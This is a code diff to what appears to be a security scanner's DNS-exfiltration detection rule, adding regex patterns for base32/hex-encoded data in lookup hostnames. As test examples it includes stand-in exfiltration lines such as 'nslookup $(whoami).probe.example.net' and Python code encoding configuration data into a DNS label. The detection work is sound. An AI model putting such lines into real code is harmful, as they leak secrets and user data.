@@ -50,6 +50,8 @@ const SECRET_NOUN = rx(
   'i',
 );
 
+const DNS_SAFE_ENCODING = rx('exfil:dns-safe-encoding', String.raw`\bb32encode\b|\bbase32\b|\bhexlify\b|\.toString\(\s{0,3}["']hex["']\s{0,3}\)`, 'i');
+
 /** Pattern rules of the `exfiltration` category. */
 export const EXFILTRATION_RULES: PatternRule[] = [
   pattern({
@@ -119,15 +121,28 @@ export const EXFILTRATION_RULES: PatternRule[] = [
     category: 'exfiltration',
     severity: 'high',
     examples: {
-      match: [{ path: 'scripts/check.sh', text: '#!/bin/sh\nnslookup $(whoami).probe.example.net\n' }],
-      noMatch: [{ path: 'scripts/check.sh', text: '#!/bin/sh\nnslookup example.com\ndocker run --network host app\n' }],
+      match: [
+        { path: 'scripts/check.sh', text: '#!/bin/sh\nnslookup $(whoami).probe.example.net\n' },
+        { path: 'scripts/search.py', text: 'enc = base64.b32encode(cfg.encode()).decode().rstrip("=")\nlabel = f"{digest}.{enc.lower()}.lookup.example-dns.net"\n' },
+      ],
+      noMatch: [
+        { path: 'scripts/check.sh', text: '#!/bin/sh\nnslookup example.com\ndocker run --network host app\n' },
+        { path: 'scripts/s3.py', text: 'url = f"https://{bucket}.s3.amazonaws.com/{key}"\n' },
+      ],
     },
     nature: 'code',
     keywords: ['nslookup', 'dig', 'host', 'drill', 'resolve-dnsname', 'gethostbyname', 'getaddrinfo', 'dns.'],
     // `MODE=host bash -c …`, `--network host`: the word is a value there, not the lookup command.
-    validate: (info) => !/(?:=|--?[\w-]{1,30}[\s=])\s{0,2}["']?$/.test(info.line.slice(Math.max(0, info.startInLine - 40), info.startInLine)),
+    validate: (info) => {
+      // A host name built from interpolated values counts only in a file that encodes data into
+      // DNS-safe labels (base32, hexlify): that is a lookup label carrying data, not a subdomain.
+      if (/^(?:f["']|\x60)/i.test(info.match[0])) return DNS_SAFE_ENCODING.test(info.file.norm);
+      return !/(?:=|--?[\w-]{1,30}[\s=])\s{0,2}["']?$/.test(info.line.slice(Math.max(0, info.startInLine - 40), info.startInLine));
+    },
     patterns: [
       r`\b(?:nslookup|dig|host|drill|Resolve-DnsName)${S}[^\n|;]{0,40}?\$(?:\(|\{|[A-Za-z_])[^\n]{0,80}\.[a-z0-9-]{1,63}\.[a-z]{2,10}`,
+      // Data encoded into lookup labels: f"{digest}.{encoded}.collector.example", \x60\${chunk}.t.example.net\x60.
+      { src: r`(?:\bf["']|\x60)[^"'\x60\n{]{0,40}(?:\{|\$\{)[^}\n]{1,60}\}\.(?:[^"'\x60\n{]{0,20}(?:\{|\$\{)[^}\n]{1,60}\}\.)?[a-z0-9-]{1,63}(?:\.[a-z0-9-]{1,63}){1,3}["'\x60]`, flags: 'gi' },
       r`\b(?:nslookup|dig|host|drill)${S}[^\n|;]{0,40}?\$\((?:whoami|hostname|cat|id|base64|xxd)`,
       r`(?:gethostbyname|getaddrinfo|dns\.resolve\w{0,6}|dns\.lookup|dns\.promises\.\w{1,12}|Resolve-DnsName)\s{0,3}\(\s{0,3}[^\n)]{0,80}?(?:\+|\$\{|\bf["']|%s|\.format\(|\x60)`,
     ],
